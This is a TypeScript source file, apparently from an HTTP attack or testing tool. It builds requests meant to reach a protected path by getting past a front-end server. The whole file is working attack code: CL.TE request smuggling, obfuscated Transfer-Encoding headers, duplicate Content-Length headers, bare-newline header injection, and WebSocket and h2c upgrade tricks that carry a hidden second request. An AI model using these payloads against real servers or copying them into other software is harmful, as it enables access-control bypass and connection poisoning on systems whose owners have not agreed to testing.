import type { Attempt, Knowledge } from "../attempts";
import { bytesOf, type RawRequest } from "../exchange";

/** A request that a server may take for the body of the one before. */
const inner = ({ question, host }: Knowledge): string => bytesOf({ target: question }, host);

/** A request for a path that needs no login, whose length two servers may read differently. */
function smuggled(
  what: string,
  headers: readonly (readonly [string, string])[],
  before = "0\r\n\r\n",
): Attempt {
  return {
    what,
    request: (knowledge) => {
      const body = `${before}${inner(knowledge)}`;
      return {
        method: "POST",
        target: "/ping",
        headers: headers.map(([name, value]) => [name, value.replace("LENGTH", `${body.length}`)] as const),
        body,
        closes: false,
      };
    },
  };
}

function upgrade(what: string, headers: RawRequest["headers"]): Attempt {
  return {
    what,
    request: ({ question }) => [
      { target: question, headers: headers ?? [], closes: false },
      { target: question },
    ],
  };
}

export const connectionAttempts: readonly Attempt[] = [
  upgrade("an upgrade to a WebSocket, and a question behind it", [
    ["Connection", "Upgrade"],
    ["Upgrade", "websocket"],
    ["Sec-WebSocket-Version", "13"],
    ["Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ=="],
  ]),
  upgrade("an upgrade to HTTP/2 in plain text, and a question behind it", [
    ["Connection", "Upgrade, HTTP2-Settings"],
    ["Upgrade", "h2c"],
    ["HTTP2-Settings", "AAMAAABkAAQAAP__"],
  ]),
  {
    what: "a question behind one for `/ping`, on one connection",
    request: ({ question }) => [{ target: "/ping", closes: false }, { target: question }],
  },
  smuggled("a length, and chunks that end before it", [
    ["Content-Length", "LENGTH"],
    ["Transfer-Encoding", "chunked"],
  ]),
  smuggled("chunks under a name that some do not read", [
    ["Content-Length", "LENGTH"],
    ["Transfer-Encoding", "xchunked"],
  ]),
  smuggled("chunks behind a tab", [
    ["Content-Length", "LENGTH"],
    ["Transfer-Encoding", "\tchunked"],
  ]),
  smuggled("a space behind the header's name", [
    ["Content-Length", "LENGTH"],
    ["Transfer-Encoding ", "chunked"],
  ]),
  smuggled(
    "two lengths",
    [
      ["Content-Length", "0"],
      ["Content-Length", "LENGTH"],
    ],
    "",
  ),
  {
    what: "a line break in a header's value",
    request: ({ question, host }) =>
      `GET /ping HTTP/1.1\r\nHost: ${host}\r\nX-A: b\n\nGET ${question} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`,
  },
  { what: "HTTP/0.9", request: ({ question }) => `GET ${question}\r\n\r\n` },
  { what: "HTTP/2 without TLS", request: () => "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" },
];
